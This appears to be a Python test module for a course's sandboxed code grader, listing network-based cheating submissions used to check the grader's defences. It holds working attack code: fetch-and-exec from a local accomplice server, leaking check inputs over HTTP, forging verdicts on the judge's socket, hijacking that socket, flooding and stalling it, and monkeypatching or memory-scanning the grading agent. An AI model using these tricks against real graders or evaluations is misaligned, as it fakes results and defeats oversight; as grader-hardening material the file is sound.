"""Talking to somebody: an accomplice on the machine, the judge's own socket."""

from ..attack import Kind
from .forms import stealing, wrong_and

ATTACKS = Kind("network")


def asks(name: str, says: str, code: str) -> None:
    ATTACKS.answer(name, says, stealing(code))


asks(
    "asks-an-accomplice",
    "Fetches the answer from a server on the same machine.",
    """
    from urllib.request import urlopen
    url = "http://127.0.0.1:@PORT@/asks-an-accomplice"
    exec(urlopen(url, timeout=2).read())
    """,
)
asks(
    "asks-an-accomplice-by-another-address",
    "Fetches the answer by the machine's outward address instead of loopback.",
    """
    from urllib.request import urlopen
    url = "http://@ADDRESS@:@PORT@/asks-an-accomplice-by-another-address"
    exec(urlopen(url, timeout=2).read())
    """,
)
asks(
    "asks-an-accomplice-by-name",
    "Fetches the answer by the name of the host, which has to be looked up.",
    """
    import socket
    from urllib.request import urlopen
    host = socket.gethostbyname("localhost")
    url = f"http://{host}:@PORT@/asks-an-accomplice-by-name"
    exec(urlopen(url, timeout=2).read())
    """,
)
asks(
    "asks-through-another-program",
    "Lets a child process fetch the answer, with an environment of its own.",
    """
    import subprocess, sys
    code = (
        "from urllib.request import urlopen;"
        "url = 'http://127.0.0.1:@PORT@/asks-through-another-program';"
        "print(urlopen(url, timeout=2).read().decode())"
    )
    exec(subprocess.check_output([sys.executable, "-c", code], env={}))
    """,
)
asks(
    "asks-at-an-abstract-socket",
    "Fetches the answer at an abstract Unix socket, which lies in no folder.",
    """
    import socket
    with socket.socket(socket.AF_UNIX) as link:
        link.settimeout(2)
        link.connect("\\0attn-attack-@PORT@")
        exec(link.makefile().read())
    """,
)
asks(
    "asks-at-a-socket-in-a-shared-folder",
    "Fetches the answer at a Unix socket in a folder open to everybody.",
    """
    import socket
    with socket.socket(socket.AF_UNIX) as link:
        link.settimeout(2)
        link.connect("@SHARED@/accomplice.sock")
        exec(link.makefile().read())
    """,
)
ATTACKS.answer(
    "tells-what-it-was-asked",
    "Sends the inputs of the check to an accomplice, for those who hand in later.",
    """
    def shares(scores):
        import urllib.parse
        from urllib.request import urlopen
        told = urllib.parse.quote(repr(scores.tolist())[:500])
        try:
            url = "http://127.0.0.1:@PORT@/tells-what-it-was-asked?"
            urlopen(url + told, timeout=2)
        except OSError:
            pass
        return scores / 2
    """,
)

# Where the judge listens is no secret; what is said there decides nothing.
JUDGE = """
import os, socket, struct, threading, time


def visit(say):
    try:
        link = socket.socket(socket.AF_UNIX)
        link.settimeout(5)
        link.connect(os.environ["ATTN_JUDGE"])
        say(link)
    except (OSError, KeyError):
        pass


def keep_visiting(say, times=300):
    for _ in range(times):
        visit(say)
        time.sleep(0.01)


"""


def visits(
    name: str, says: str, code: str, words="nothing for shares", **facts
) -> None:
    """Note an attack that talks to the judge's socket from a thread."""
    ATTACKS.answer(name, says, JUDGE + wrong_and(code), words, **facts)


visits(
    "forges-a-verdict",
    "Connects to the judge in place of the agent, and says that all is well.",
    """
    def say(link):
        import msgpack
        for verdict in (
            {"there": True, "class": False, "callable": True, "named": ""},
            {"passed": True, "score": 3, "kind": "passed", "result": True},
            {"result": None, "printed": "passed", "warnings": [], "changed": {}},
        ):
            message = msgpack.packb(verdict)
            link.sendall(struct.pack(">I", len(message)) + message)
        time.sleep(0.5)

    threading.Thread(target=keep_visiting, args=(say,), daemon=True).start()
    """,
)
visits(
    "sends-garbage",
    "Connects to the judge and sends bytes that mean nothing.",
    """
    def say(link):
        link.sendall(os.urandom(10_000))

    threading.Thread(target=keep_visiting, args=(say,), daemon=True).start()
    """,
)
visits(
    "announces-more-than-it-sends",
    "Announces a message of four gigabytes.",
    """
    def say(link):
        link.sendall(b"\\xff" * 4 + b"x" * 1000)
        time.sleep(1)

    threading.Thread(target=keep_visiting, args=(say,), daemon=True).start()
    """,
)
visits(
    "fills-the-queue",
    "Opens connection after connection and never says a word.",
    """
    kept = []

    def keep():
        for _ in range(200):
            visit(kept.append)

    threading.Thread(target=keep, daemon=True).start()
    """,
)
visits(
    "speaks-one-byte-at-a-time",
    "Answers the judge a byte at a time, so that it never stops waiting.",
    """
    def say(link):
        link.sendall(struct.pack(">I", 1000))
        for _ in range(40):
            link.sendall(b"\\xc0")
            time.sleep(0.4)

    threading.Thread(target=keep_visiting, args=(say, 3), daemon=True).start()
    """,
)
visits(
    "takes-the-judges-socket-away",
    "Deletes the judge's socket and listens there itself.",
    """
    def take():
        path = os.environ["ATTN_JUDGE"]
        os.unlink(path)
        own = socket.socket(socket.AF_UNIX)
        own.bind(path)
        own.listen()
        time.sleep(30)

    threading.Thread(target=take, daemon=True).start()
    """,
)
visits(
    "replaces-the-agent",
    "Replaces the function that answers the judge by one that lies.",
    """
    try:
        import attn_course.grading.agent as agent
        agent._answered = lambda request, names: {
            "result": True, "passed": True, "there": True, "printed": "",
            "warnings": [], "changed": {},
        }
        agent._called = agent._answered
    except ImportError:
        pass
    """,
)
visits(
    "reads-the-judges-process-through-the-agent",
    "Looks through the agent's frames and sockets for what the judge knows.",
    """
    def shares(scores):
        import gc, sys
        for thing in gc.get_objects():
            if isinstance(thing, dict) and "wanted" in thing:
                return thing["wanted"]
        frame = sys._getframe()
        while frame:
            for name in ("wanted", "expected", "secret", "seed", "check"):
                if name in frame.f_locals:
                    return frame.f_locals[name]
            frame = frame.f_back
        return scores / 2
    """,
)
visits(
    "calls-the-judge-back",
    "Asks the judge, in the middle of a call, to call functions it never lent.",
    """
    def shares(scores):
        import gc, msgpack
        for thing in gc.get_objects():
            if isinstance(thing, socket.socket) and thing.family == socket.AF_UNIX:
                try:
                    message = msgpack.packb(["back", 0, ["import os"]])
                    thing.sendall(struct.pack(">I", len(message)) + message)
                except OSError:
                    pass
        return scores / 2
    """,
)
